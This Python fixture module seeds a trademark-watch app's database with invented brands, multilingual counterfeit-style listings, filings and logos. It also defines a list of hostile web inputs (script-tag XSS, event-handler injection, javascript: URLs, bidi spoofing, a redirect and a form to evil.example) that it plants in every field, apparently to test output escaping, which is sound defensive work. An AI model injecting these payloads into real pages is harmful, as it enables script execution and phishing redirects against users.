"""A small invented world for the pages: holders, listings in many scripts, filings, pictures, and hostile records."""

from __future__ import annotations

import hashlib
import io
import os
import random
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

from PIL import Image, ImageDraw
from sqlalchemy import func, select

from ipwatch.evidence import EvidenceStore
from ipwatch.images import Purpose, extract_features, thumbnail
from ipwatch.matching.differences import differences
from ipwatch.matching.images.engine import ImageIndex
from ipwatch.matching.images.features import ImageFeatures, ReferenceImage, pack, unpack
from ipwatch.matching.images.match import image_signal
from ipwatch.matching.score import DEFAULT_THRESHOLD, MATCHER_VERSION, combine, detail, qualifier
from ipwatch.records import (
    Category,
    Document,
    FailureReason,
    Finding,
    Holder,
    HolderKind,
    ImageRefusal,
    Listing,
    MarkRecord,
    ParseIssue,
    PriceBand,
    PublicationKind,
    Request,
    RequestKind,
    Right,
    RightKind,
    Seller,
    Signal,
    WatchedMark,
    Watchlist,
)
from ipwatch.store import captures, filings, findings, issues, listings, pictures, runs, sources, watchlists
from ipwatch.store.session import Database
from ipwatch.store.tables import FilingRow, ListingRow
from ipwatch.store.watchlists import WatchedImage

NOW = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)

# Each would run a script, leave the page or turn the reading order where a page let it through.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<svg/onload=alert(3)>",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(4)",
    "\u202egnp.exe\u202c \u2066イミテーション\u2069 ザロ\u200bゴ",
    "' onmouseover='alert(5)' x='",
    "</title></textarea><script src=http://127.0.0.1:9/x.js></script>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>OK</button></form>",
    "長" * 5000,
)


@dataclass(frozen=True)
class _Brand:
    holder: Holder
    mark: WatchedMark
    logo: bytes
    spellings: tuple[str, ...]
    goods: tuple[str, ...]


def _brand(  # noqa: PLR0917 - a row of a table
    holder: str,
    names: tuple[str, str],
    kind: HolderKind,
    text: str,
    right: RightKind,
    reading: str,
    spellings: tuple[str, ...],
    goods: tuple[str, ...],
    band: tuple[int, int],
    colour: str,
) -> _Brand:
    picture = f"{holder}/logo.png"
    mark = WatchedMark(
        watchlist=holder,
        id="main",
        text=text,
        kind=right,
        readings=(reading,),
        variants=spellings[:2],
        nice_classes=(24, 25),
        images=(Path(picture),),
        goods_terms=goods,
        genuine_price_jpy=PriceBand(min=band[0], max=band[1]),
        rights=(Right(office="JP", kind=right, number="0061234", expires=date(2031, 7, 6)),),
    )
    return _Brand(
        holder=Holder(id=holder, name_ja=names[0], name_en=names[1], kind=kind, prefecture="JP-38"),
        mark=mark,
        logo=_logo(colour, sum(map(ord, holder))),
        spellings=spellings,
        goods=goods,
    )


def _logo(colour: str, seed: int) -> bytes:
    """Draw a mark of a few shapes, the same for the same seed."""
    dice = random.Random(seed)  # noqa: S311 - drawings, not secrets
    image = Image.new("RGB", (480, 360), "white")
    draw = ImageDraw.Draw(image)
    draw.ellipse((60, 30, 360, 330), fill=colour)
    for _ in range(7):
        x, y = dice.randrange(40, 380), dice.randrange(40, 280)
        draw.rectangle(
            (x, y, x + dice.randrange(20, 90), y + dice.randrange(20, 90)), fill=dice.choice(("white", "#222", "#c93"))
        )
    draw.line((20, dice.randrange(360), 460, dice.randrange(360)), fill="#222", width=14)
    return _png(image)


def _png(image: Image.Image) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


BRANDS = (
    _brand(
        "kazami-towel", ("風見タオル工業組合", "Kazami Towel Guild"), HolderKind.REGIONAL, "風見タオル",
        RightKind.REGIONAL_COLLECTIVE_MARK, "カザミタオル",
        ("Kazami Towel", "風見毛巾", "KAZAM1 TOWEL", "카자미 타월"),
        ("タオル", "towel", "毛巾"), (800, 20000), "#2b6cb0",
    ),
    _brand(
        "hoshigama", ("星釜茶業株式会社", "Hoshigama Tea Co., Ltd."), HolderKind.COMPANY, "星釜",
        RightKind.TRADEMARK, "ホシガマ",
        ("HOSHIGAMA", "ホシガマ", "星釡", "Hoshi-Gama"), ("抹茶", "matcha", "tea"), (1200, 30000), "#2f855a",
    ),
    _brand(
        "mikado-persimmon", ("御門柿生産者協議会", "Mikado Persimmon Growers"), HolderKind.REGIONAL, "御門柿",
        RightKind.GEOGRAPHICAL_INDICATION, "ミカドガキ",
        ("Mikado Gaki", "御门柿", "Mikado persimmon"), ("柿", "persimmon", "干し柿"), (1500, 12000), "#c05621",
    ),
    _brand(
        "starlit-ferry", ("星海フェリー製作委員会", "Starlit Ferry Production Committee"), HolderKind.CONTENT,
        "星海フェリー", RightKind.COPYRIGHT_WORK, "ホシウミフェリー",
        ("Starlit Ferry", "스타릿 페리", "星海渡轮"), ("フィギュア", "figure", "T-shirt"), (900, 60000), "#553c9a",
    ),
)  # fmt: skip

_TITLES = (
    "【送料無料】{brand} {goods} 2枚組 ギフト 正規品タイプ",
    "{brand} Japanese {goods} set - high quality, fast shipping",
    "日本製 {brand} 风格 {goods} 厂家直销 批发",
    "{brand} 스타일 {goods} 무료배송",
    "Authentic-look {brand} {goods} (replica grade AAA)",
    "{brand}ตัวแทน {goods} ของแท้จากญี่ปุ่น",
)
_SELLING = (
    ("rakuten", "JP", "JPY"),
    ("ebay", "CN", "USD"),
    ("ebay", "HK", "USD"),
    ("shopify", "KR", "KRW"),
    ("webshop", "VN", "USD"),
)


def fill(database: Database, evidence_root: Path, memory: Path, *, seed: int = 1, count: int = 60) -> None:
    """Fill an empty database with ``count`` listings, a few filings, and one listing for each hostile text.

    The features of the pictures are kept in the folder ``memory``.
    """
    world = _World(database, evidence_root, memory, random.Random(seed))  # noqa: S311 - drawings, not secrets
    evidence = EvidenceStore(evidence_root)
    world.watch()
    world.run_sources()
    for number in range(count):
        world.add(evidence, number, *world.invent(number))
    for number, text in enumerate(HOSTILE, start=count):
        world.add(evidence, number, *world.poison(number, text))
    world.file_marks(evidence)


class _World:
    """What is being filled, and the dice."""

    def __init__(self, database: Database, evidence_root: Path, memory: Path, dice: random.Random) -> None:
        memory.mkdir(exist_ok=True)
        self.memory = memory
        self.database = database
        self.root = evidence_root
        self.dice = dice
        self.references = {
            brand.mark.key: ReferenceImage(
                mark=brand.mark.key,
                path=str(brand.mark.images[0]),
                features=self.features_of(brand.logo, Purpose.REFERENCE),
            )
            for brand in BRANDS
        }
        self.run_id = 0

    def features_of(self, body: bytes, purpose: Purpose) -> ImageFeatures:
        """Return the features of a picture, extracted by the first who needs them."""
        path = self.memory / f"review-{purpose.name}-{hashlib.sha256(body).hexdigest()}"
        if path.exists():
            return unpack(path.read_bytes())
        features = extract_features(body, purpose)
        unfinished = path.with_suffix(f".{os.getpid()}")
        unfinished.write_bytes(pack(features))
        unfinished.replace(path)
        return features

    def watch(self) -> None:
        """Save the watchlists and their pictures."""
        with self.database.write_session() as session:
            for brand in BRANDS:
                watchlists.save_watchlist(session, watchlist_of(brand), NOW - timedelta(days=9))
                reference = self.references[brand.mark.key]
                picture = WatchedImage(reference=reference, thumbnail=thumbnail(brand.logo, 640))
                watchlists.save_references(session, [picture])

    def run_sources(self) -> None:
        """Let one source be well, one partly read, one blocked; the rest never ran."""
        with self.database.write_session() as session:
            self.run_id = runs.start_run(session, kind="collect", source="rakuten", now=NOW - timedelta(days=3))
            runs.add_counts(session, self.run_id, planned=0, parsed=71, new=71)
            runs.finish_run(session, self.run_id, state="done", now=NOW - timedelta(days=3))
            sources.set_state(session, "rakuten", "ok", run_id=self.run_id, now=NOW - timedelta(days=3))
            partly = runs.start_run(session, kind="collect", source="ebay", now=NOW - timedelta(hours=5))
            runs.add_counts(session, partly, parsed=12, refused=2)
            faults = [
                ParseIssue(
                    source="ebay", where="itemSummaries[4]", field="price.currency", message="unknown currency 'XZZ'"
                ),
                ParseIssue(source="ebay", where="<script>alert(6)</script>", message=HOSTILE[1]),
            ]
            issues.add_issues(session, partly, faults, NOW - timedelta(hours=5))
            runs.finish_run(
                session, partly, state="partial", now=NOW - timedelta(hours=4), message="2 of 14 unreadable"
            )
            sources.set_state(
                session,
                "ebay",
                "degraded",
                reason=FailureReason.UNREADABLE,
                message="2 of 14 records could not be read",
                run_id=partly,
                now=NOW - timedelta(hours=4),
            )
            stopped = runs.start_run(session, kind="collect", source="shopify", now=NOW - timedelta(hours=3))
            runs.finish_run(
                session, stopped, state="failed", now=NOW - timedelta(hours=3), message="403 at shop.example"
            )
            sources.set_state(
                session,
                "shopify",
                "blocked",
                reason=FailureReason.BLOCKED,
                message="shop.example answers 403: ask the shop",
                run_id=stopped,
                now=NOW - timedelta(hours=3),
            )

    def invent(self, number: int) -> tuple[_Brand, Listing, str]:
        """Return a brand, a listing that names it, and the spelling used."""
        brand = self.dice.choice(BRANDS)
        marketplace, country, currency = self.dice.choice(_SELLING)
        spelling = self.dice.choice((brand.mark.text, *brand.spellings))
        title = self.dice.choice(_TITLES).format(brand=spelling, goods=self.dice.choice(brand.goods))
        price = self.dice.choice((Decimal(480), Decimal(1980), Decimal("12.99"), Decimal("34.5")))
        listing = Listing(
            marketplace=marketplace,
            listing_id=f"shop-{number % 7}:{number:05}",
            url=f"https://{marketplace}.example/item/{number:05}",
            title=title,
            description=f"{title}\n\n{spelling} / size 34 x 80 cm / ships in 3 days.",
            brand=spelling if number % 3 == 0 else None,
            price=price,
            currency=currency,
            images=tuple(f"https://{marketplace}.example/img/{number:05}-{i}.png" for i in range(number % 4)),
            seller=Seller(
                id=f"shop-{number % 7}",
                name=f"まとめ屋 {number % 7} 号店",
                country=country,
                feedback_pct=97.5,
                feedback_count=812,
            ),
            ships_from=country,
            category=Category(id="221", path="Home > Textiles > Towels"),
            condition="new",
            status="active",
        )
        return brand, listing, spelling

    def poison(self, number: int, text: str) -> tuple[_Brand, Listing, str]:
        """Return a listing with a hostile text in every field that is text."""
        brand, listing, _ = self.invent(number)
        bad = replace(
            listing,
            listing_id=f"bad-{number}:{text[:60]}",
            url=text if text.startswith("javascript") else f"https://xn--{text[:40]}",
            title=f"{brand.mark.text} {text}",
            description=text,
            brand=text,
            seller=Seller(id=text[:200], name=text, country=text[:40]),
            ships_from=text[:40],
            category=Category(id=text[:40], path=text),
            condition=text,
            images=(f"https://pictures.example/{number}.png?{text[:80]}",),
        )
        return brand, bad, brand.mark.text

    def add(self, evidence: EvidenceStore, number: int, brand: _Brand, listing: Listing, spelling: str) -> None:
        """Store a listing with its evidence, its pictures and a finding, and change every fourth listing."""
        fetched_at = NOW - timedelta(hours=3 * number + 1)
        body = repr(listing).encode()
        document = document_of(listing.url or "https://nowhere.example/", body, fetched_at, source=listing.marketplace)
        self._keep(evidence, document)
        listing = replace(listing, document_sha256=document.sha256)
        with self.database.write_session() as session:
            listings.upsert(session, listing, run_id=self.run_id, now=fetched_at)
            row_id = session.scalars(select(func.max(ListingRow.id))).one()
            if number % 4 == 1:
                listing = replace(listing, price=Decimal(980), description=f"{listing.description} SALE")
                listings.upsert(session, listing, run_id=self.run_id, now=fetched_at + timedelta(hours=1))
        signals = [
            *self._signals(listing, brand, spelling),
            *self._pictures(evidence, listing, brand, number, fetched_at),
        ]
        finding = Finding(
            subject=listing.subject,
            mark=brand.mark.key,
            score=combine(signals),
            signals=tuple(signals),
            threshold=0.7,
            matcher_version=MATCHER_VERSION,
        )
        self._find(finding, row_id, brand, listing.marketplace, listing.ships_from, None, document, fetched_at)

    def file_marks(self, evidence: EvidenceStore) -> None:
        """Store three filings, of which one must be opposed soon, one is late and one is hostile."""
        texts = (
            ("カザミ", date(2026, 12, 3)),
            ("ホシカマ", date(2026, 11, 2)),
            (f"御門 {HOSTILE[0]}", date(2027, 1, 5)),
        )
        for number, (text, until) in enumerate(texts):
            brand = BRANDS[number]
            document = document_of(f"https://register.example/bulk/{number}", text.encode(), NOW, source="jpo")
            self._keep(evidence, document)
            filing = MarkRecord(
                office="JP",
                application_number=f"202600012{number}",
                mark_text=text,
                readings=("カザミ",),
                applicants=(f"{text}商事株式会社",),
                filing_date=date(2026, 1, 5),
                publication_date=date(2026, 10, 3),
                publication_kind=PublicationKind.REGISTRATION,
                opposition_until=until,
                nice_classes=(24, 25),
                goods=("タオル", "ハンカチ", HOSTILE[2]),
                status="registered",
                source_url=f"https://register.example/{number}",
                document_sha256=document.sha256,
            )
            with self.database.write_session() as session:
                filings.upsert(session, filing, run_id=self.run_id, now=NOW)
                row_id = session.scalars(select(func.max(FilingRow.id))).one()
            signals = [
                Signal(
                    name="sound",
                    score=0.94,
                    term="sound_length",
                    compared=(brand.mark.text, text),
                    field="mark_text",
                    span=(0, 2),
                ),
                qualifier("goods", "class_overlap", ("24, 25", "24")),
            ]
            finding = Finding(
                subject=filing.subject,
                mark=brand.mark.key,
                score=combine(signals),
                signals=tuple(signals),
                threshold=0.7,
                matcher_version=MATCHER_VERSION,
            )
            self._find(finding, row_id, brand, "JP", None, until, document, NOW, is_filing=True)

    def _signals(self, listing: Listing, brand: _Brand, spelling: str) -> list[Signal]:
        start = (listing.title or "").find(spelling)
        span = (start, start + len(spelling))
        compared = (brand.mark.text, spelling)
        exact = spelling == brand.mark.text
        signals = [
            Signal(
                name="name",
                score=1.0 if exact else 0.93,
                term="name_exact" if exact else "name_folded",
                compared=compared,
                field="title",
                span=span,
                differences=differences(*compared),
            )
        ]
        if "1" in spelling:
            signals.append(detail("name", "disguised_spelling", 1.0, compared, field="title"))
        signals.append(
            qualifier("goods", "goods_named", (brand.goods[0], self.dice.choice(brand.goods)), field="title")
        )
        if listing.price is not None and listing.price < 500:
            signals.append(qualifier("price", "price_far_below", ("¥800", f"¥{listing.price}"), field="price"))
        if "replica" in (listing.title or ""):
            signals.append(qualifier("context", "context_replica", (brand.mark.text, "replica"), field="title"))
        return signals

    def _pictures(
        self, evidence: EvidenceStore, listing: Listing, brand: _Brand, number: int, fetched_at: datetime
    ) -> list[Signal]:
        """Fetch the pictures but the last; the first of every other listing is the holder's logo, one is no picture."""
        signals = []
        for i, url in enumerate(listing.images):
            if i == 2:
                continue
            broken = number % 11 == 3 and i == 0
            stolen = number % 2 == 0 and i == 0
            body = b"<html>no picture</html>" if broken else self._draw(brand.logo if stolen else None, number * 10 + i)
            document = document_of(url, body, fetched_at, source=listing.marketplace, kind=RequestKind.IMAGE)
            self._keep(evidence, document)
            with self.database.write_session() as session:
                if broken:
                    pictures.add_refusal(session, document.sha256, ImageRefusal.NOT_A_PICTURE, fetched_at)
                else:
                    features = self.features_of(body, Purpose.OBSERVED)
                    pictures.add_features(session, pictures.packed(features), fetched_at)
                    (matches,) = ImageIndex([self.references[brand.mark.key]]).matches([features])
                    signals.extend(
                        image_signal(match, url) for match in matches[:1] if match.score >= DEFAULT_THRESHOLD
                    )
                pictures.record(session, url=url, sha256=document.sha256)
        return signals

    def _draw(self, logo: bytes | None, seed: int) -> bytes:
        dice = random.Random(seed)  # noqa: S311 - drawings, not secrets
        if logo is not None:
            image = Image.open(io.BytesIO(logo)).resize((420, 315))
            return _png(image)
        image = Image.new("RGB", (400, 400), dice.choice(("#d8cfc0", "#b7c9d3", "#cbb8a9")))
        draw = ImageDraw.Draw(image)
        for _ in range(9):
            x, y = dice.randrange(300), dice.randrange(300)
            fill_with = dice.choice(("#345", "#a63", "#696", "#eee", "#963"))
            draw.rounded_rectangle((x, y, x + dice.randrange(40, 160), y + dice.randrange(30, 120)), 12, fill=fill_with)
        return _png(image)

    def _keep(self, evidence: EvidenceStore, document: Document) -> None:
        request = Request(source=document.source, url=document.url, kind=document.kind)
        evidence.put(document, request=request, request_headers=(), remote_address="192.0.2.7")
        with self.database.write_session() as session:
            captures.add_capture(session, document, run_id=self.run_id)

    def _find(  # noqa: PLR0917 - one call for listings and filings
        self,
        finding: Finding,
        row_id: int,
        brand: _Brand,
        source: str,
        country: str | None,
        due_on: date | None,
        document: Document,
        now: datetime,
        *,
        is_filing: bool = False,
    ) -> None:
        with self.database.write_session() as session:
            findings.record_finding(
                session,
                finding,
                row_id=row_id,
                is_filing=is_filing,
                run_id=self.run_id,
                holder=brand.holder.id,
                right_kind=brand.mark.kind,
                watchlist_sha256=watchlist_of(brand).sha256,
                source=source,
                country=country,
                due_on=due_on,
                input_hash=hashlib.sha256(finding.subject.encode()).hexdigest(),
                document_sha256=document.sha256,
                now=now,
            )


def watchlist_of(brand: _Brand) -> Watchlist:
    sha256 = hashlib.sha256(brand.holder.id.encode()).hexdigest()
    return Watchlist(holder=brand.holder, marks=(brand.mark,), sha256=sha256)


def document_of(
    url: str, body: bytes, fetched_at: datetime, *, source: str, kind: RequestKind = RequestKind.PAGE
) -> Document:
    return Document(
        source=source,
        kind=kind,
        url=url,
        final_url=url,
        status=200,
        headers=(("Content-Type", "text/html"), ("X-Served-By", HOSTILE[0])),
        fetched_at=fetched_at,
        sha256=hashlib.sha256(body).hexdigest(),
        size=len(body),
        content=body,
    )
